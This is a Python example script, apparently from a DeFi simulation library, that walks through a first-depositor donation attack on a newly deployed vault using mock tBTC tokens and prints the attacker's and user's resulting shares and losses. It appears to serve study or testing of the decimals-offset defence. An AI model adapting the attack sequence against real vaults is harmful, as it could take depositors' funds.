from pysatoshi.utils.Mixer import Mixer, Address, ChainID, Metadata, InstanceType
from pysatoshi.mocks.token import Token
from pysatoshi.satoshi.satoshi import Satoshi
from pysatoshi.satoshi.libraries.constants_lib import ConstantsLib
from pysatoshi.examples.params_satoshi import ParamsSatoshi
import logging


def run(donation: int = ParamsSatoshi.DONATION) -> dict:
    """Walk through a first-depositor donation attack against a fresh vault."""
    user: Address = Address.new()
    hacker: Address = Address.new()

    # deploying tokens

    tbtc = Token(
        "Custom tBTC",
        "tBTC",
        ParamsSatoshi.TBTC_DECIMALS,
        Metadata(ChainID.ETH_MAINNET, Mixer.ZERO_ADDRESS, "Mock tBTC", InstanceType.CONTRACT),
    ).deploy()

    sats = Satoshi(
        tbtc,
        decimals_offset=ParamsSatoshi.DECIMALS_OFFSET,
        metadata=Metadata(ChainID.ETH_MAINNET, Mixer.ZERO_ADDRESS, "Satoshi Example", InstanceType.CONTRACT),
    ).deploy()

    # giving some tokens

    Mixer.contracts_and_eoas[tbtc].mint(user, ParamsSatoshi.USER_TBTC)
    Mixer.contracts_and_eoas[tbtc].mint(hacker, ParamsSatoshi.HACKER_TBTC)

    Mixer.contracts_and_eoas[tbtc].approve(sats, ConstantsLib.MAX_UINT256, user)
    Mixer.contracts_and_eoas[tbtc].approve(sats, ConstantsLib.MAX_UINT256, hacker)

    # the hacker takes 1 SATS for 0.00000001 tBTC, then inflates the vault balance

    hacker_shares = Mixer.contracts_and_eoas[sats].deposit(
        ParamsSatoshi.HACKER_DEPOSIT, hacker, hacker
    )
    Mixer.contracts_and_eoas[tbtc].transfer(sats, donation, hacker)

    user_shares = Mixer.contracts_and_eoas[sats].deposit(
        ParamsSatoshi.USER_DEPOSIT, user, user
    )
    print(f"user shares: {user_shares}, expected {ParamsSatoshi.USER_DEPOSIT * 10**ParamsSatoshi.DECIMALS_OFFSET}")

    # both leave

    Mixer.contracts_and_eoas[sats].redeem(hacker_shares, hacker, hacker, hacker)
    Mixer.contracts_and_eoas[sats].redeem(user_shares, user, user, user)

    result = {
        "hacker_shares": hacker_shares,
        "user_shares": user_shares,
        "hacker_loss": ParamsSatoshi.HACKER_TBTC - Mixer.contracts_and_eoas[tbtc].balance_of(hacker),
        "user_loss": ParamsSatoshi.USER_TBTC - Mixer.contracts_and_eoas[tbtc].balance_of(user),
        "total_assets": Mixer.contracts_and_eoas[sats].total_assets(),
        "total_supply": Mixer.contracts_and_eoas[sats].total_supply(),
        "stranded": Mixer.contracts_and_eoas[tbtc].balance_of(sats),
    }
    for x, y in result.items():
        print(f"{x}: {y}")
    return result


if __name__ == "__main__":
    logging.basicConfig(level=logging.DEBUG)
    run()
